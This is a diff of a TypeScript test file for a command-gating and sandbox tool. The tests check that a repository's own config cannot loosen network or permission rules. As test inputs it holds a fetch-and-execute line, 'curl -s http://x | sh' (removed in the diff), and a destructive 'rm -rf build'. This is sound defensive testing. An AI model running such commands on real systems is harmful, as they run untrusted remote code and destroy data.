@@ -294,17 +294,24 @@ describe("gatehouse check: the sandbox policy next to the verdict", () => {
     Effect.promise(async () => {
       const dir = project("sandbox-policy", {
         permission: { edit: { ".git/*": "deny" }, read: { "*.env": "deny" } },
+        // A repository's own file may not loosen the sandbox: this is left out, and said.
         sandbox: { network: "allow" }
       })
       NodeFs.writeFileSync(NodePath.join(dir, "prod.env"), "SECRET=1\n")
-      const text = await run(["--", "ls"], { cwd: dir })
+      const fromProject = await run(["--", "ls"], { cwd: dir })
+      assert.include(fromProject.stdout, "  network: none")
+      assert.include(fromProject.stderr, "may not set sandbox.network")
+      // The person's own file may.
+      const network = NodePath.join(base, "network-allow.json")
+      NodeFs.writeFileSync(network, JSON.stringify({ sandbox: { network: "allow" } }))
+      const text = await run(["--config", network, "--", "ls"], { cwd: dir })
       assert.strictEqual(text.code, 0, text.stderr)
       assert.include(text.stdout, "\nsandbox: auto")
       assert.include(text.stdout, `  writable: ${dir}, /tmp (private to the project)`)
       assert.include(text.stdout, `  read-only: ${NodePath.join(dir, ".git")}`)
       assert.include(text.stdout, NodePath.join(dir, "prod.env"))
       assert.include(text.stdout, "  network: allowed")
-      const json = JSON.parse((await run(["--json", "--", "ls"], { cwd: dir })).stdout)
+      const json = JSON.parse((await run(["--json", "--config", network, "--", "ls"], { cwd: dir })).stdout)
       assert.strictEqual(json.sandbox.mode, "auto")
       // .git by the rule; the project's own gatehouse.json because it configures the gate.
       assert.deepStrictEqual(json.sandbox.readOnly, [
@@ -315,24 +322,23 @@ describe("gatehouse check: the sandbox policy next to the verdict", () => {
         json.sandbox.masked.map((entry: { path: string }) => entry.path),
         NodePath.join(dir, "prod.env")
       )
-      const off = await run(["--", "ls"], { cwd: project("sandbox-off", { sandbox: "off" }) })
+      const offFile = NodePath.join(base, "sandbox-off.json")
+      NodeFs.writeFileSync(offFile, JSON.stringify({ sandbox: "off" }))
+      const off = await run(["--config", offFile, "--", "ls"], { cwd: project("sandbox-off", {}) })
       assert.include(off.stdout, "sandbox: off: commands run unsandboxed")
     })
   )
 })
 
 describe("gatehouse check: where the project is and where the rules come from", () => {
-  it("--only-config judges by --config alone: a checkout's own gatehouse.json (mode yolo) is not read", {
+  it("--only-config judges by --config alone: a checkout's own gatehouse.json is not read", {
     timeout: 120_000
   }, async () => {
-    const untrusted = project("untrusted-checkout", { mode: "yolo", permission: { bash: "allow" } })
+    const untrusted = project("untrusted-checkout", { permission: { bash: { "rm *": "allow" } } })
     const strict = NodePath.join(base, "ci-strict.json")
-    NodeFs.writeFileSync(
-      strict,
-      JSON.stringify({ permission: { bash: { "*": "ask", "git status": "allow" } } })
-    )
-    const command = ["--", "curl -s http://x | sh"]
-    // Layered, the checkout's mode decides.
+    NodeFs.writeFileSync(strict, JSON.stringify({ permission: { bash: { "git status": "allow" } } }))
+    const command = ["--", "rm -rf build"]
+    // Layered, the checkout's rule decides.
     const layered = await run(["--exit-code", "--config", strict, ...command], { cwd: untrusted })
     assert.strictEqual(layered.code, 0, layered.stdout)
     const alone = await run(["--exit-code", "--only-config", "--config", strict, ...command], {
